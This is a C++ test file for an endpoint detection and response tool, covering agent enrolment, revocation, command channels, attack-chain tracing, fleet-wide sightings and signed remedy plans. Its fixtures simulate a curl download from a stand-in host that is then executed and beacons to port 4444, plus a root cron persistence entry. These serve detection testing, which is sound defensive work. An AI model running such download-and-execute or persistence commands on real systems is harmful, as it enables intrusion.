// SPDX-License-Identifier: GPL-3.0-or-later
// Workstation and agent together, over every way that there is between them.
#include "core/agent/agent_ledger.h"
#include "core/base/wall_clock.h"
#include "core/endpoint/trace_codec.h"
#include "core/fleet/fleet_keys.h"
#include "core/fleet/sighting_orders.h"
#include "core/mitigation/mitigation_desk.h"
#include "core/mitigation/remedy_order.h"
#include "tests/agents/fleet_lab.h"
#include "tests/endpoint/scenario.h"
#include "tests/support/process.h"

#include <csignal>
#include <map>
#include <thread>

using namespace metsuke;
using namespace metsuke::test;

namespace {

class Agents : public FleetLab { };

TEST_F(Agents, OverTheLocalSocket_isApprovedHeardAndAnswers) {
    ASSERT_TRUE(serve(Way::LocalSocket));
    const auto given = token(false);
    std::jthread enrolling([&] {
        const auto done = enrolDevice("pc-1", given);
        EXPECT_TRUE(done.ok()) << done.error().message.id;
    });
    ASSERT_TRUE(eventually([&] { return roster().agent("pc-1").value().has_value(); }));
    const auto asked = roster().agent("pc-1").value();
    EXPECT_EQ(asked->state, fleet::AgentState::Pending);
    EXPECT_EQ(asked->fingerprint, openc2::VerifyingKey::fromText(asked->request.identity).value().id());
    ASSERT_TRUE(roster().decide("pc-1", roster().agent("pc-1").value()->fingerprint, fleet::AgentState::Approved, "tester", wallClock()).ok());
    enrolling.join();

    const auto client = startAgent("pc-1");
    ASSERT_NE(client, nullptr);
    ASSERT_TRUE(waitForAgent("pc-1"));
    const auto heard = roster().agent("pc-1").value();
    EXPECT_EQ(heard->heartbeat->hostname, "host-pc-1");
    EXPECT_LT(std::abs(heard->clockSkew), 2 * kSecond);
    EXPECT_EQ(roster().agentAt(*IpAddress::parse("10.0.0.7")).value().value().device, "pc-1");

    const auto answer = finished(order("pc-1").command.id);
    EXPECT_EQ(answer.state, fleet::CommandState::Answered);
    EXPECT_EQ(answer.response->status, 200);
    EXPECT_NE(answer.response->results.find("features"), std::string::npos);
    const auto unable = finished(order("pc-1", "query", "x-metsuke:weather").command.id);
    EXPECT_EQ(unable.response->status, 501);
}

TEST_F(Agents, OverTheBroker_traceIsAsked_answersWithTheCause) {
    if (!serve(Way::Broker)) {
        return;
    }
    endpoint::test::Scenario scenario;
    const auto shell = scenario.running("/usr/bin/bash");
    const auto curl = scenario.run(shell, "/usr/bin/curl", {"curl", "-o", "/tmp/x", "http://203.0.113.9/x"});
    scenario.connect(curl, "203.0.113.9", 80, 40000);
    const endpoint::FileId file{1, 77};
    scenario.write(curl, "/tmp/x", file);
    const auto beacon = scenario.run(shell, "/tmp/x", {"/tmp/x"}, file);
    scenario.at(60).connect(beacon, "203.0.113.9", 4444, 40001);
    const auto reader = scenario.history();
    ASSERT_TRUE(enrolDevice("pc-2", token(true)).ok());
    const auto client = startAgent("pc-2", scenario.folder().string());
    ASSERT_NE(client, nullptr);
    ASSERT_TRUE(waitForAgent("pc-2"));

    endpoint::TraceQuestion question;
    question.time = endpoint::test::seconds(60);
    question.remote = *IpAddress::parse("203.0.113.9");
    question.remotePort = 4444;
    question.localPort = 40001;
    const Timestamp asked = wallClock();
    const auto ordered = fleet::orderTrace(roster(), "pc-2", endpoint::encodeQuestion(question), "tester", asked);
    ASSERT_TRUE(ordered.ok());
    const auto answer = finished(*ordered);
    const auto took = static_cast<double>(wallClock() - asked) / 1e6;
    ASSERT_EQ(answer.state, fleet::CommandState::Answered);
    ASSERT_EQ(answer.response->status, 200) << answer.response->reason;
    const auto trace = fleet::traceOf(*answer.response);
    ASSERT_TRUE(trace.ok()) << trace.error().message.id;
    EXPECT_EQ(trace->entry, endpoint::EntryVector::Download);
    RecordProperty("round_trip_ms", std::to_string(took));
    std::printf("trace over the broker: %.1f ms\n", took);
    EXPECT_LT(took, 3'000);
}

TEST_F(Agents, OtherComputers_areAskedForWhatATraceIsAbout_andSayWhatTheyMet) {
    ASSERT_TRUE(serve(Way::LocalSocket));
    endpoint::test::Scenario met, clean;
    met.at(5).connect(met.running("/usr/bin/bash"), "203.0.113.9", 4444, 40'000);
    const std::unique_ptr<endpoint::HistoryReader> histories[] = {met.history(), clean.history()};
    std::vector<std::unique_ptr<agent::AgentClient>> clients;
    for (const auto& [device, history] : {std::pair{"pc-a", ""}, {"pc-b", met.folder().c_str()}, {"pc-c", clean.folder().c_str()}}) {
        ASSERT_TRUE(enrolDevice(device, token(true)).ok());
        clients.push_back(startAgent(device, history));
        ASSERT_TRUE(waitForAgent(device));
    }
    endpoint::Trace trace;
    endpoint::Connected connection;
    connection.remote = *IpAddress::parse("203.0.113.9");
    endpoint::TraceNode node;
    node.evidence = endpoint::Activity{endpoint::test::seconds(1), {1, 1}, "ebpf", connection};
    trace.nodes = {node};
    trace.chain = {0};
    const Timestamp now = wallClock();
    const auto asked = fleet::askOthers(roster(), trace, "pc-a", now - endpoint::test::kStart + kDay, "tester", now);
    ASSERT_TRUE(asked.ok()) << asked.error().message.id;
    ASSERT_EQ(asked->size(), 2U) << "not the one whose trace it is";
    std::map<std::string, size_t> found;
    for (const fleet::AskedAgent& one : *asked) {
        const auto answer = finished(one.command);
        ASSERT_EQ(answer.response->status, 200) << answer.response->reason;
        const auto sightings = fleet::sightingsOf(*answer.response);
        ASSERT_TRUE(sightings.ok()) << sightings.error().message.id;
        found[one.device] = sightings->found.size();
    }
    EXPECT_EQ(found, (std::map<std::string, size_t>{{"pc-b", 1}, {"pc-c", 0}}));
}

TEST_F(Agents, RemedyOfAnExpert_isThePlanOfEveryComputerThatHasIt_withItsOwnPathsAndProcesses) {
    ASSERT_TRUE(serve(Way::LocalSocket));
    const std::string digest(64, 'a');
    endpoint::test::Scenario ann, bob, clean;
    const auto infect = [&](endpoint::test::Scenario& scenario, const std::string& device, const std::string& path) {
        const endpoint::ProcessUid process = endpoint::processUid(device, "boot-of-" + device, 4711, kMinute);
        endpoint::ProcessStarted started;
        started.pid = 4711;
        started.start = kMinute;
        endpoint::ImageStarted image;
        image.path = path;
        image.sha256 = digest;
        endpoint::PersistenceChanged entry;
        entry.kind = "cron";
        entry.path = "/etc/cron.d/upd";
        entry.entry = entry.command = "* * * * * root " + path;
        for (const endpoint::ActivityBody& body : {endpoint::ActivityBody(started), endpoint::ActivityBody(image), endpoint::ActivityBody(entry)}) {
            scenario.tell(process, body);
        }
    };
    infect(ann, "pc-ann", "/home/ann/.update");
    infect(bob, "pc-bob", "/srv/tmp/upd");
    const std::unique_ptr<endpoint::HistoryReader> histories[] = {ann.history(), bob.history(), clean.history()};
    std::vector<std::unique_ptr<agent::AgentClient>> clients;
    for (const auto& [device, history] : {std::pair{"pc-ann", ann.folder().c_str()}, {"pc-bob", bob.folder().c_str()}, {"pc-clean", clean.folder().c_str()}}) {
        ASSERT_TRUE(enrolDevice(device, token(true)).ok());
        clients.push_back(startAgent(device, history));
        ASSERT_TRUE(waitForAgent(device));
    }
    // As the expert's file: signed by a key of the policy that the agents obey.
    const Timestamp now = wallClock();
    const auto key = openc2::SigningKey::load(m_settings.folder / "operator.key");
    ASSERT_TRUE(key.ok());
    plan::Remedy written;
    written.id = "rem-1";
    written.title = "Updater";
    written.who = "Expert";
    written.created = {(now - kHour).ns / kMillisecond * kMillisecond};
    written.expires = written.created + kDay;
    written.indicators = {{"i1", plan::RemedyIndicator::Kind::Sha256, digest, "", ""}};
    written.steps = {{plan::Action::KillProcess, {"i1"}, {}}, {plan::Action::QuarantineFile, {"i1"}, {}}, {plan::Action::RemovePersistence, {"i1"}, {}}};
    const auto operators = fleet::operatorsInForce(m_settings.folder);
    ASSERT_TRUE(operators.ok());
    const auto remedy = plan::readRemedy(plan::writeRemedy(written, *key), *operators, now);
    ASSERT_TRUE(remedy.ok()) << remedy.error().message.id;

    endpoint::SightingQuestion question;
    question.indicators = mitigation::indicatorsOf(remedy->remedy);
    question.window = fleet::lookBack(now - endpoint::test::kStart + kDay, now);
    question.wantsObjects = true;
    const auto asked = fleet::askFor(roster(), question, "", "tester", now);
    ASSERT_TRUE(asked.ok());
    ASSERT_EQ(asked->size(), 3U);
    auto desk = mitigation::MitigationDesk::open(m_settings.folder, roster(), *operators);
    ASSERT_TRUE(desk.ok()) << desk.error().message.id;
    std::vector<plan::Plan> plans;
    for (const fleet::AskedAgent& one : *asked) {
        const auto answer = finished(one.command);
        ASSERT_EQ(answer.response->status, 200) << answer.response->reason;
        auto sightings = fleet::sightingsOf(*answer.response);
        ASSERT_TRUE(sightings.ok()) << sightings.error().message.id;
        mitigation::RemedyQuestion about;
        about.device = one.device;
        about.boot = roster().agent(one.device).value()->heartbeat->boot;
        about.sightings = std::move(*sightings);
        const auto id = mitigation::freeOrder((*desk)->book(), remedy->remedy, one.device);
        ASSERT_TRUE(id.ok());
        const auto made = mitigation::remedyOrder(*remedy, about, *id, now);
        EXPECT_EQ(made.ok(), one.device != "pc-clean") << one.device;
        if (made.ok()) {
            plans.push_back(made->plan);
        }
    }
    ASSERT_EQ(plans.size(), 2U);
    for (const plan::Plan& plan : plans) {
        ASSERT_EQ(plan.steps.size(), 3U) << plan.device;
        const std::string path = plan.device == "pc-ann" ? "/home/ann/.update" : "/srv/tmp/upd";
        EXPECT_EQ(std::get<plan::PersistenceTarget>(plan.steps[0].target).entry, "* * * * * root " + path);
        EXPECT_EQ(std::get<plan::FileTarget>(plan.steps[1].target).path, path);
        EXPECT_EQ(std::get<plan::ProcessTarget>(plan.steps[2].target).boot, "boot-of-" + plan.device);
    }
    ASSERT_TRUE((*desk)->draft(plans, "tester", now).ok());
    EXPECT_EQ((*desk)->book().order(plans[0].id).value()->stage, 0) << "one first";
    EXPECT_EQ((*desk)->book().order(plans[1].id).value()->stage, 1);
    for (const plan::Plan& plan : plans) { // both are looked at; agents without an actuator say that they cannot
        ASSERT_TRUE((*desk)->dryRun(plan.id, "tester", now).ok());
    }
    EXPECT_TRUE(test::eventually([&] {
        EXPECT_TRUE((*desk)->tick(wallClock()).ok());
        return std::ranges::all_of(plans, [&](const plan::Plan& plan) { return (*desk)->book().order(plan.id).value()->state != mitigation::OrderState::DryRunning; });
    }));
}

TEST_F(Agents, OverFiles_everythingTravelsOnACarriedFolder) {
    ASSERT_TRUE(serve(Way::FileDrop));
    ASSERT_TRUE(enrolDevice("pc-3", token(true)).ok());
    const auto client = startAgent("pc-3");
    ASSERT_NE(client, nullptr);
    ASSERT_TRUE(waitForAgent("pc-3"));
    EXPECT_EQ(finished(order("pc-3").command.id).state, fleet::CommandState::Answered);
}

TEST_F(Agents, WorkstationStartsAgain_commandThatWaitedIsAnsweredOnce) {
    ASSERT_TRUE(serve(Way::LocalSocket));
    ASSERT_TRUE(enrolDevice("pc-4", token(true)).ok());
    const auto client = startAgent("pc-4");
    ASSERT_TRUE(waitForAgent("pc-4"));
    stopServing();
    const auto waiting = order("pc-4");
    EXPECT_EQ(waiting.state, fleet::CommandState::Queued);
    startServing();
    EXPECT_EQ(finished(waiting.command.id).state, fleet::CommandState::Answered);
}

TEST_F(Agents, RevokedAgent_isNotHeardAnyMore) {
    if (!serve(Way::Broker)) {
        return;
    }
    ASSERT_TRUE(enrolDevice("pc-5", token(true)).ok());
    auto client = startAgent("pc-5");
    ASSERT_TRUE(waitForAgent("pc-5"));
    ASSERT_TRUE(roster().decide("pc-5", roster().agent("pc-5").value()->fingerprint, fleet::AgentState::Revoked, "tester", wallClock()).ok());
    client.reset();
    const Timestamp revoked = wallClock();
    client = startAgent("pc-5");
    ASSERT_TRUE(enrolDevice("pc-6", token(true)).ok());
    const auto other = startAgent("pc-6");
    ASSERT_TRUE(waitForAgent("pc-6")) << "others are served as before";
    EXPECT_LT(roster().agent("pc-5").value()->lastSeen, revoked + 2 * kSecond);
}

TEST_F(Agents, TokenOfAnother_isRefused) {
    ASSERT_TRUE(serve(Way::LocalSocket));
    const auto given = token(true);
    ASSERT_TRUE(enrolDevice("pc-7", given).ok());
    const auto stolen = enrolDevice("pc-8", given);
    ASSERT_FALSE(stolen.ok());
    EXPECT_EQ(stolen.error().code, ErrorCode::PermissionDenied);
    EXPECT_FALSE(roster().agent("pc-8").value().has_value());
}

} // namespace
